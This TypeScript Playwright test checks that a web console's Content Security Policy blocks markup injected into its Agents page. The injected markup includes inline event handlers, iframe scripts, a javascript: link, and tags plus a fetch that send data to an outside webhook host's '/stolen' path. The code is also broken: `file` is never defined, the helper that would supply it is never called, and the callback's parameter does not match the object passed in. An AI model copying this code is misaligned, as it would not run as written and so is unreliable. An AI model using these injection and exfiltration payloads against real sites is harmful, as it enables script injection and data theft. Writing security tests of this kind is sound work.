import type { ApiClient } from "../support/api-client";
import { expect, test } from "../support/console-test";
import { openConsole } from "../support/open-console";
import { fileShape, workspaceShape } from "../support/shapes";

/** Stores a script as a file of type text/javascript; gives where its bytes are read. */
async function hostileScript(api: ApiClient): Promise<string> {
  const { workspace_id } = (await api.post("/v1/workspaces", { name: "scripts" })).as(workspaceShape);
  const stored = await api.post(`/v1/workspaces/${workspace_id}/files`, undefined, {
    raw: "(parent.ran ??= []).push('file')",
    query: { path: "script.js" },
    headers: { "content-type": "text/javascript" },
  });
  return `/v1/workspaces/${workspace_id}/files/${stored.as(fileShape).file_id}/content`;
}

declare global {
  interface Window {
    ran?: string[];
  }
}

test("markup that found its way into a page runs nothing, loads nothing and sends nothing", async ({
  signedIn,
  pageProblems,
  webhookUrl,
}) => {
  const { page } = signedIn;
  await page.goto("/agents");
  expect(pageProblems.unexpected()).toEqual([]);
  await page.evaluate(
    (elsewhere) => {
      const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
      add(`<img src="data:," onerror="(window.ran ??= []).push('handler')">`);
      add(`<iframe srcdoc="<script>(parent.ran ??= []).push('frame')</script>"></iframe>`);
      add(`<style>body { display: none }</style>`);
      add(`<img src="${elsewhere}/pixel">`);
      add(`<object data="${elsewhere}/object"></object>`);
      add(`<base href="${elsewhere}/">`);
      add(`<form action="${elsewhere}/taken" method="post"><button id="give">Give</button></form>`);
      add(`<a id="go" href="javascript:(window.ran ??= []).push('address')">Go</a>`);
      // Read by the parser, as the markup of a page is; the frame has the policy of this page.
      add(`<iframe srcdoc="<script src='${file}'></script>"></iframe>`);
      document.getElementById("give")?.click();
      document.getElementById("go")?.click();
      void fetch(`${elsewhere}/stolen`, { method: "POST", mode: "no-cors", body: "all of it" }).catch(() => undefined);
    },
    { elsewhere: webhookUrl, file },
  );
  const stopped = () => new Set(pageProblems.unexpected().flatMap((problem) => /^policy: ([\w-]+)/.exec(problem)?.[1] ?? []));
  const directives = [
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
    "img-src",
    "object-src",
    "base-uri",
    "form-action",
    "connect-src",
  ];
  await expect.poll(() => [...stopped()]).toEqual(expect.arrayContaining(directives));
  expect(await page.evaluate(() => window.ran ?? [])).toEqual([]);
  await expect(page.getByRole("heading", { name: "Agents", level: 1 })).toBeVisible();
  expect(new URL(page.url()).pathname).toBe("/agents");
  pageProblems.allow(/./);
});
